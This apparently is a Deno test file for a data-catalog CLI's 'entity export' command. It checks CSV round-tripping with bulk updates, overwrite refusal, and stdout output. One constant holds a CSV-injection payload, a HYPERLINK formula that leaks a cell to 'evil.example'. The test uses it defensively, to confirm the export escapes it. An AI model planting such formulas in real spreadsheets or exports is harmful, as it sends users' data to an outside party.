/**
 * `entity export` as a user runs it (a subprocess of main.ts against the emulator's seed): the CSV it
 * writes is what `entity bulk-update-csv` reads back, so an edited cell changes the entity and an
 * unedited export changes nothing.
 */
import assert from "node:assert/strict";
import { readCsvRecords } from "../support/import_setup.ts";
import { withCliSetup } from "../support/cli_harness.ts";

const ORDERS = "ca7a1000-0000-4000-8000-000000000020";
const PRODUCTS = "ca7a1000-0000-4000-8000-000000000030";
/** Catalog text written to leak a spreadsheet's cells when opened (OWASP CSV injection). */
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

Deno.test("entity export: edit one cell, bulk-update-csv reads it back and changes that entity only", async () => {
  await withCliSetup({ seed: true, prefix: "govcat-export-" }, async (setup) => {
    const file = `${setup.dir}/tables.csv`;
    await setup.client.entity.partialUpdateAttribute(PRODUCTS, "description", FORMULA);
    const exported = await setup.govcat(
      "entity",
      "export",
      "--type=azure_sql_table",
      `--output-file=${file}`,
    );
    assert.equal(exported.code, 0, exported.stderr);
    assert.equal(exported.json.entities, 5);
    const records = await readCsvRecords(file);
    // The formula reaches the file guarded, so a spreadsheet shows it as text.
    assert.ok((await Deno.readTextFile(file)).includes(`"'${FORMULA.replaceAll('"', '""')}"`));
    assert.deepEqual(Object.keys(records[0]).slice(0, 6), [
      "guid",
      "typeName",
      "qualifiedName",
      "displayName",
      "description",
      "owner",
    ]);
    const before = await Promise.all(records.map((r) => setup.client.entity.get(r.guid)));

    const text = await Deno.readTextFile(file);
    const edited = text.replace("Sales orders placed through the web shop and by phone.", "Orders reviewed");
    assert.notEqual(edited, text);
    await Deno.writeTextFile(file, edited);
    const update = await setup.govcat("entity", "bulk-update-csv", `--csv-file=${file}`);
    assert.equal(update.code, 0, update.stderr);

    const after = await Promise.all(records.map((r) => setup.client.entity.get(r.guid)));
    for (const [i, record] of records.entries()) {
      const old = before[i].entity!.attributes!;
      const now = after[i].entity!.attributes!;
      if (record.guid === ORDERS) assert.equal(now.description, "Orders reviewed");
      else assert.equal(now.description, old.description, record.qualifiedName);
      if (record.guid === PRODUCTS) assert.equal(now.description, FORMULA, "read back without its guard");
      assert.equal(now.qualifiedName, old.qualifiedName);
      assert.deepEqual(after[i].entity!.contacts, before[i].entity!.contacts, record.qualifiedName);
    }
  });
});

Deno.test("entity export: an existing output file is refused without --overwrite, before the catalog is read", async () => {
  await withCliSetup({ seed: true, prefix: "govcat-export-" }, async (setup) => {
    const file = await setup.file("taken.csv", "keep me\n");
    const before = setup.requests();
    const refused = await setup.govcat("entity", "export", `--output-file=${file}`);
    assert.equal(refused.code, 2);
    assert.match(refused.stderr, /already exists.*nothing was written/);
    assert.equal(setup.requests(), before);
    assert.equal(await Deno.readTextFile(file), "keep me\n");
    const replaced = await setup.govcat(
      "entity",
      "export",
      `--output-file=${file}`,
      "--overwrite",
      "--limit=2",
    );
    assert.equal(replaced.code, 0, replaced.stderr);
    assert.equal(replaced.json.entities, 2);
    assert.equal(replaced.json.truncated, true);
    assert.match(replaced.stderr, /only the first 2 were written/);
  });
});

Deno.test("entity export: printed without --output-file, with attr.* and bm.* columns", async () => {
  await withCliSetup({ seed: true, prefix: "govcat-export-" }, async (setup) => {
    const printed = await setup.govcatText(
      "entity",
      "export",
      "--keywords=Orders",
      "--type=azure_sql_table",
      "--attribute=owner",
    );
    assert.equal(printed.code, 0, printed.stderr);
    const [header, ...rows] = printed.stdout.trim().split(/\r?\n/);
    assert.equal(header, "guid,typeName,qualifiedName,displayName,description,owner,attr.owner");
    assert.ok(rows.some((row) => row.startsWith(ORDERS)), printed.stdout);
  });
});
